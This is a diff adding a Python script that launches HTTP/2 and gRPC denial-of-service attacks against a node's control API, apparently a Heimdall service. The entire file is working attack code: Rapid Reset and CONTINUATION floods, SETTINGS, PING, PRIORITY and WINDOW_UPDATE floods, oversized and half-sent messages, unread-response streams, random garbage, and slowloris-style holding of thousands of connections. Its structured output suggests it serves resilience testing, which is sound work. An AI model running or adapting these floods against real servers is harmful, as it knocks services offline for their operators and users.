@@ -1,0 +1,216 @@
+#!/usr/bin/env python3
+"""Attacks a node's control API: flood.py KIND ADDRESS PORT [SECONDS]. Prints what came of it as one JSON object."""
+import contextlib
+import json
+import os
+import resource
+import socket
+import struct
+import sys
+import time
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CLIENT_HELLO = bytes.fromhex("16030102000100")  # a record that promises 512 bytes
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name, value):
+    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def request(path):
+    """The header block of a gRPC call: pseudo headers by their place in HPACK's table, the rest in full."""
+    return (b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x" + literal(b"content-type", b"application/grpc") +
+            literal(b"te", b"trailers"))
+
+
+NODES = request(b"/dev.ehazlett.heimdall.api.v1.Heimdall/Nodes")
+EMPTY_MESSAGE = bytes(5)
+
+
+def dial(begin=PREFACE + frame(SETTINGS, 0, 0)):
+    sock = socket.create_connection(ADDRESS, timeout=10)
+    sock.sendall(begin)
+    return sock
+
+
+def push(sock, chunks, seconds=20):
+    """Sends what `chunks` makes without reading answers; returns how many bytes left before the other side closed."""
+    sent, end = 0, time.monotonic() + seconds
+    sock.settimeout(1)
+    try:
+        for chunk in chunks:
+            sock.sendall(chunk)
+            sent += len(chunk)
+            if time.monotonic() > end:
+                break
+    except (BrokenPipeError, ConnectionResetError):
+        return {"sent": sent, "ended": True}
+    except TimeoutError:
+        return {"sent": sent, "ended": is_closed(sock), "stuck": True}
+    return {"sent": sent, "ended": is_closed(sock)}
+
+
+def is_closed(sock, seconds=3):
+    """Reads until the other side ends the connection."""
+    sock.settimeout(seconds)
+    try:
+        while sock.recv(1 << 16):
+            pass
+    except TimeoutError:
+        return False
+    except OSError:
+        pass
+    return True
+
+
+def rapid_reset():
+    def chunks():
+        for batch in range(400):
+            streams = range(batch * 200 + 1, batch * 200 + 201, 2)
+            yield b"".join(frame(HEADERS, 5, n, NODES) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in streams)
+    return push(dial(), chunks())
+
+
+def continuation():
+    def chunks():
+        yield frame(HEADERS, 1, 1, NODES)  # and no END_HEADERS
+        for _ in range(4000):
+            yield frame(CONTINUATION, 0, 1, literal(b"x" * 100, b"y" * 120) * 70)
+    return push(dial(), chunks())
+
+
+def repeated(one, count):
+    def chunks():
+        for _ in range(count // 100):
+            yield one * 100
+    return push(dial(), chunks())
+
+
+def settings():
+    return repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 30), 20000)
+
+
+def ping():
+    return repeated(frame(PING, 0, 0, bytes(8)), 100000)
+
+
+def empty_data():
+    def chunks():
+        yield frame(HEADERS, 4, 1, NODES)
+        for _ in range(1000):
+            yield frame(DATA, 0, 1) * 100
+    return push(dial(), chunks())
+
+
+def priority():
+    return repeated(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)), 100000)
+
+
+def window_update():
+    return repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 100000)
+
+
+def gibibyte():
+    """One message of 1 GiB, as far as the window lets it."""
+    def chunks():
+        yield frame(HEADERS, 4, 1, NODES)
+        yield frame(DATA, 0, 1, struct.pack(">BI", 0, 1 << 30) + bytes(16000))
+        for _ in range(2000):
+            yield frame(DATA, 0, 1, bytes(16384))
+    return push(dial(), chunks())
+
+
+def halves():
+    """Messages of 4 MiB without their end, four over each of many connections, all of which stay open."""
+    part = frame(DATA, 0, 1, bytes(16384)) * 200
+    held, ended = [], 0
+    for _ in range(20):
+        held.append(dial())
+        with contextlib.suppress(OSError):
+            for stream in range(1, 9, 2):
+                begin = frame(DATA, 0, stream, struct.pack(">BI", 0, 4 << 20))
+                held[-1].sendall(frame(HEADERS, 4, stream, NODES) + begin + part.replace(frame(DATA, 0, 1, b"")[3:],
+                                                                                         frame(DATA, 0, stream, b"")[3:]))
+    for sock in held:
+        ended += is_closed(sock, 0.05)
+    return {"connections": len(held), "ended": ended}
+
+
+def unread():
+    """Asks for answer after answer and reads none."""
+    sock = dial(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7fffffff)) +
+                frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7ffffff)))
+
+    def chunks():
+        for stream in range(1, 200001, 2):
+            yield frame(HEADERS, 4, stream, NODES) + frame(DATA, 1, stream, EMPTY_MESSAGE)
+    return push(sock, chunks(), 8)
+
+
+def garbage():
+    ended = 0
+    for _ in range(200):
+        with dial(os.urandom(2000)) as sock:
+            ended += is_closed(sock, 10)  # some look like the beginning of something
+    return {"ended": ended}
+
+
+def hold(count, begin, drip, seconds):
+    """`count` connections that say `begin`, then a byte of `drip` every second."""
+    socks, refused = [], 0
+    for _ in range(count):
+        try:
+            sock = socket.create_connection(ADDRESS, timeout=5)
+            sock.sendall(begin)
+            sock.setblocking(False)
+            socks.append(sock)
+        except OSError:
+            refused += 1
+    print("held", flush=True)
+    ended, end = set(), time.monotonic() + seconds
+    for turn in range(10000):
+        if time.monotonic() > end:
+            break
+        time.sleep(0.5 if drip else 1)
+        for sock in socks:
+            if sock in ended:
+                continue
+            try:
+                if drip and turn % 2 == 0:
+                    sock.send(drip[turn // 2 % len(drip):][:1])
+                if sock.recv(1 << 16) == b"":
+                    ended.add(sock)
+            except BlockingIOError:
+                pass
+            except OSError:
+                ended.add(sock)
+    return {"connected": len(socks), "refused": refused, "ended": len(ended)}
+
+
+def idle():
+    return hold(10000, b"", b"", SECONDS)
+
+
+def idle_clients():
+    return hold(10000, PREFACE + frame(SETTINGS, 0, 0), b"", SECONDS)
+
+
+def slow_hello():
+    return hold(400, b"", CLIENT_HELLO * 10, SECONDS)
+
+
+def slow_preface():
+    return hold(400, b"", PREFACE * 10, SECONDS)
+
+
+if __name__ == "__main__":
+    kind, ADDRESS = sys.argv[1], (sys.argv[2], int(sys.argv[3]))
+    SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    print(json.dumps(globals()[kind]()), flush=True)
